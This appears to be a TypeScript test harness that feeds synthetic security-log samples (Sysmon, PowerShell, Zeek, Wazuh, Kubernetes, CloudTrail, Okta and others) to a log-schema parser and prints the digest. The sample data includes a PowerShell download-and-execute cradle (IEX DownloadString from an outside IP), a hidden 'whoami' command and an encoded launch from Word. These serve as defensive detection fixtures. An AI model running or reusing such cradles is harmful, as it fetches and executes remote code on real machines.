import { foldAll, textFor } from "./bench/digest-text.ts";
import { eventsIn, readAll } from "./data-folder/schemas/read-all.ts";
import { cloudtrailRecord } from "./data-folder/schemas/samples/clouds.ts";
import { kubernetesRecord } from "./data-folder/schemas/samples/clusters.ts";
const T = "2025-03-04T05:06:07.000Z";
const at = Date.parse(T);
const C: Record<string, any[]> = {
  sysmon: [
    {
      json: {
        Event: {
          System: {
            Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
            EventID: 1,
            TimeCreated: { "#attributes": { SystemTime: T } },
            Channel: "Microsoft-Windows-Sysmon/Operational",
            Computer: "PC",
            Security: { "#attributes": { UserID: "S-1-5-18" } },
          },
          EventData: {
            UtcTime: "2025-03-04 05:06:07.000",
            Image: "C:\\a\\b.exe",
            CommandLine: "b.exe -enc AAA",
            User: "N\\ann",
            ParentImage: "C:\\w\\winword.exe",
          },
        },
      },
    },
  ],
  ps: [
    {
      json: {
        Event: {
          System: {
            Provider: { "#attributes": { Name: "Microsoft-Windows-PowerShell" } },
            EventID: 4104,
            TimeCreated: { "#attributes": { SystemTime: T } },
            Channel: "Microsoft-Windows-PowerShell/Operational",
            Computer: "PC",
          },
          EventData: {
            ScriptBlockText:
              "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a')",
            MessageNumber: 1,
            MessageTotal: 1,
          },
        },
      },
    },
  ],
  ps400: [
    {
      json: {
        Event: {
          System: {
            Provider: { "#attributes": { Name: "PowerShell" } },
            EventID: { "#attributes": { Qualifiers: 0 }, "#text": 400 },
            TimeCreated: { "#attributes": { SystemTime: T } },
            Channel: "Windows PowerShell",
            Computer: "PC",
          },
          EventData: {
            Data: {
              "#text": [
                "Available",
                "None",
                "\tNewEngineState=Available\n\tHostApplication=powershell.exe -nop -w hidden -c whoami\n",
              ],
            },
          },
        },
      },
    },
  ],
  cleared: [
    {
      json: {
        Event: {
          System: {
            Provider: { "#attributes": { Name: "Microsoft-Windows-Eventlog" } },
            EventID: 1102,
            TimeCreated: { "#attributes": { SystemTime: T } },
            Channel: "Security",
            Computer: "PC",
          },
          UserData: {
            LogFileCleared: {
              "#attributes": { xmlns: "x" },
              SubjectUserName: "ann",
              SubjectDomainName: "N",
            },
          },
        },
      },
    },
  ],
  defender: [
    {
      json: {
        "@timestamp": T,
        winlog: {
          channel: "Microsoft-Windows-Windows Defender/Operational",
          event_id: 1116,
          computer_name: "PC",
          provider_name: "Microsoft-Windows-Windows Defender",
          event_data: { "Threat Name": "Trojan:Win32/X", Path: "file:_C:\\x.exe" },
        },
        host: { name: "PC" },
        message: "Microsoft Defender Antivirus has detected malware",
      },
    },
  ],
  zeek: [
    {
      json: {
        ts: at / 1000,
        uid: "C1",
        "id.orig_h": "10.0.0.1",
        "id.resp_h": "203.0.113.9",
        "id.resp_p": 4444,
        proto: "tcp",
        service: "ssl",
      },
    },
  ],
  wazuh: [
    {
      json: {
        timestamp: "2025-03-04T05:06:07.000+0000",
        rule: { level: 10, description: "sshd: brute force", id: "5712", groups: ["sshd"] },
        agent: { id: "1", name: "web-1" },
        full_log:
          "Mar  4 05:06:07 web-1 sshd[1]: Failed password for root from 203.0.113.4 port 1 ssh2",
        location: "/var/log/auth.log",
        decoder: { name: "sshd" },
      },
    },
  ],
  nginxerr: [
    {
      line: `2025/03/04 05:06:07 [error] 12#12: *1 open() "/x/.env" failed (2: No such file), client: 203.0.113.4`,
    },
  ],
  klog: [{ line: "I0304 05:06:07.123456       1 node.go:12] started" }],
  kevents: [
    {
      json: {
        apiVersion: "v1",
        kind: "List",
        items: [
          {
            apiVersion: "v1",
            kind: "Event",
            firstTimestamp: T,
            lastTimestamp: T,
            reason: "BackOff",
            message: "Back-off restarting failed container",
            involvedObject: { kind: "Pod", name: "cart" },
            metadata: { creationTimestamp: T, name: "cart.1" },
            type: "Warning",
          },
        ],
      },
    },
  ],
  aksLA: [
    {
      json: {
        TimeGenerated: T,
        Category: "kube-audit",
        log_s: JSON.stringify(kubernetesRecord(0)),
        pod_s: "p",
      },
    },
  ],
  aksTable: [
    {
      json: {
        TimeGenerated: T,
        AuditId: "x",
        Verb: "create",
        RequestUri: "/api",
        User: { username: "ann" },
        SourceIps: ["203.0.113.4"],
        ObjectRef: { resource: "pods", namespace: "d", name: "p" },
        ResponseStatus: { code: 201 },
        Stage: "ResponseComplete",
        Type: "AKSAudit",
      },
    },
  ],
  splunkct: [
    {
      json: {
        preview: false,
        result: {
          _raw: JSON.stringify(cloudtrailRecord(0)),
          _time: T,
          sourcetype: "aws:cloudtrail",
        },
      },
    },
  ],
  splunkNoRaw: [{ json: { preview: false, offset: 0, result: cloudtrailRecord(0) } }],
  s3notify: [
    {
      json: {
        Records: [
          {
            eventVersion: "2.1",
            eventSource: "aws:s3",
            awsRegion: "eu",
            eventTime: T,
            eventName: "ObjectCreated:Put",
            s3: { bucket: { name: "b" } },
          },
        ],
      },
    },
  ],
  applog: [{ json: { level: "error", time: T, msg: "login failed for ann from 203.0.113.4" } }],
  fluent: [
    {
      json: {
        log: JSON.stringify(kubernetesRecord(0)),
        stream: "stdout",
        time: T,
        kubernetes: { host: "n1", pod_name: "api" },
      },
    },
  ],
  azlogin: [
    {
      json: {
        records: [
          {
            time: T,
            category: "SignInLogs",
            operationName: "Sign-in activity",
            properties: {
              userPrincipalName: "ann@x",
              ipAddress: "203.0.113.4",
              status: { errorCode: 50126 },
            },
          },
        ],
      },
    },
  ],
  ecslogin: [
    {
      json: {
        "@timestamp": T,
        agent: { type: "auditbeat" },
        host: { name: "h1" },
        event: { module: "system", dataset: "login", action: "user_login", outcome: "failure" },
        user: { name: "root" },
        source: { ip: "203.0.113.4" },
      },
    },
  ],
  vpc: [
    {
      line: "2 444455556666 eni-1 203.0.113.4 10.0.0.5 443 5000 6 1 40 1741064767 1741064827 ACCEPT OK",
    },
  ],
  okta: [
    {
      json: {
        eventType: "user.session.start",
        published: T,
        actor: { alternateId: "ann@x" },
        client: { ipAddress: "203.0.113.4" },
        outcome: { result: "FAILURE" },
        uuid: "u1",
      },
    },
  ],
  tsv1: [
    {
      json: [
        {
          _type: "audit",
          _id: "1",
          timestamp: at,
          user: "root",
          exe: "/bin/ls",
          syscall: "execve",
          arguments: "ls /x",
        },
      ],
    },
  ],
};
for (const [k, d] of Object.entries(C)) {
  const f = readAll(d);
  const e = eventsIn(f);
  const t = e.length ? textFor(foldAll(e), 2000) : "";
  console.log(
    `## ${k}: ${f.map((x: any) => x.schema ?? x.reason).join()} ${/types: .*/.exec(t)?.[0] ?? ""} | ${/hosts: .*/.exec(t)?.[0] ?? ""} | ${/users: .*/.exec(t)?.[0] ?? ""}\n   ${(t.match(/^(?:\d\d:\d\d:\d\d|undated) .*$/m)?.[0] ?? "").slice(0, 260)}`,
  );
}
